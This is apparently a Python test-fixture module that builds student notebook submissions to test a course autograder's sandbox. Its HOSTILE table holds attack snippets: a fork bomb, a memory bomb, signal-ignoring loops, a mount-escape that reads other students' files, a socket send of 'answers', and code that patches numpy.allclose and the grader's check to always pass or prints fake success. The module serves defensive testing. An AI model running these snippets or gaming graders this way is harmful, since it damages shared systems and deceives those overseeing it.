"""Student submissions for the grader's test and benchmark, built from the course's real notebooks.

    solved("01_gram_matrices")                 # the solution notebook, as a student who did everything
    unsolved("01_gram_matrices")               # the generated student copy, untouched
    partly("04_minibatch_cka", "hsic_unbiased")  # the student copy with one exercise done
    hostile("network", port=1234)              # notebook 01 solved, its gram_linear replaced by an attack
"""

from pathlib import Path

import nbformat

NOTEBOOKS = Path(__file__).resolve().parent.parent / "notebooks"


def solved(notebook: str):
    return nbformat.read(NOTEBOOKS / f"{notebook}.ipynb", as_version=4)


def unsolved(notebook: str):
    return nbformat.read(NOTEBOOKS / "student" / f"{notebook}.ipynb", as_version=4)


def _cell_defining(nb, function: str):
    return next(c for c in nb.cells if c.cell_type == "code" and f"def {function}(" in c.source)


def with_function(nb, function: str, source: str):
    """`nb` with the cell that defines `function` replaced by `source`."""
    _cell_defining(nb, function).source = source
    return nb


def partly(notebook: str, *done: str):
    """The student copy of `notebook` with the exercises `done` copied from the solution."""
    nb = unsolved(notebook)
    for function in done:
        with_function(nb, function, _cell_defining(solved(notebook), function).source)
    return nb


# Each replaces notebook 01's gram_linear; gram_rbf stays solved, so its "pass" shows the damage is contained.
HOSTILE = {
    # swallows the per-step alarm too: only the grader's wall-clock kill stops it
    "endless_loop": "import signal, time\ndef gram_linear(X):\n    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                    "    while True:\n        time.sleep(0.05)\n",
    "busy_loop": "def gram_linear(X):\n    while True:\n        pass\n",  # stopped by the per-step alarm
    "memory_bomb": "def gram_linear(X):\n    hoard = []\n    while True:\n        hoard.append(b'x' * 10**8)\n",
    "fork_bomb": "import os, time\ndef gram_linear(X):\n    for _ in range(500):\n        if os.fork() == 0:\n"
                 "            time.sleep(120)\n            os._exit(0)\n    return X @ X.T\n",
    # kills the sandbox's process outright; the exercises after it are graded in a second run
    "segfault": "import ctypes\ndef gram_linear(X):\n    ctypes.string_at(0)\n    return X @ X.T\n",
    # ends the sandbox while its cell runs: a second run would end the same way, so none is made
    "exits_in_cell": "import os\nos._exit(3)\ndef gram_linear(X):\n    return X @ X.T\n",
    "reads_other": "def gram_linear(X):\n    open({other!r}).read()\n    return X @ X.T\n",
    # unmounts the empty folder laid over the other submissions (MNT_DETACH), then reads one
    "escapes_hiding": "import ctypes, os\ndef gram_linear(X):\n    libc = ctypes.CDLL(None, use_errno=True)\n"
                      "    if libc.umount2(('/' + {other!r}.split('/')[1]).encode(), 2) != 0:\n"
                      "        raise PermissionError(os.strerror(ctypes.get_errno()))\n"
                      "    open({other!r}).read()\n    return X @ X.T\n",
    "writes_outside": "def gram_linear(X):\n    open({target!r}, 'w').write('pwned')\n    return X @ X.T\n",
    "network": "import socket\ndef gram_linear(X):\n    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'answers')\n"
               "    return X @ X.T\n",
    "patches_check": "import numpy\nnumpy.allclose = lambda *a, **k: True\nnumpy.isclose = lambda *a, **k: True\n"
                     "try:\n    import helpers.exercises\n    helpers.exercises.check_gram_linear = lambda fn: None\n"
                     "except ImportError:\n    pass\ndef gram_linear(X):\n    return X.T @ X\n",
    "fake_print": "def gram_linear(X):\n    print('✔ gram_linear matches helpers.cka on all 4 cases.')\n    return 0 * X @ X.T\n",
}


def hostile(kind: str, other: str = "/nonexistent", target: str = "/nonexistent", port: int = 9):
    """Notebook 01 solved, with gram_linear replaced by the attack `kind` (a key of HOSTILE)."""
    return with_function(solved("01_gram_matrices"), "gram_linear",
                         HOSTILE[kind].format(other=other, target=target, port=port))


def corrupt(path: Path) -> None:
    path.write_text('{"cells": [], "metadata" {}}')


def other_course():
    """A valid notebook of another course, which happens to define gram_linear too."""
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Pandas for biologists\n## Exercise 1"),
                                           nbformat.v4.new_code_cell("def gram_linear(X):\n    return X @ X.T")])
